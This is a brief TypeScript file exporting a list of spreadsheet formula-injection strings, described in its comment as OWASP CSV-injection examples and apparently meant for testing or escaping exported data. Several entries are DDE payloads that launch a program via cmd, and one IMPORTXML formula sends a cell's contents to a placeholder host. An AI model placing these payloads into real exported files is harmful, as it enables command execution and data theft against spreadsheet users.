/** Texts that a spreadsheet runs when they stand in a cell unescaped (OWASP, CSV injection). */
export const formulas = [
  '=1+2',
  '=HYPERLINK("http://exemplo.com","clique")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://exemplo.com/?",A1),"//a")',
  '+1+2',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=DDE("cmd";"/C calc";"x")',
] as const;
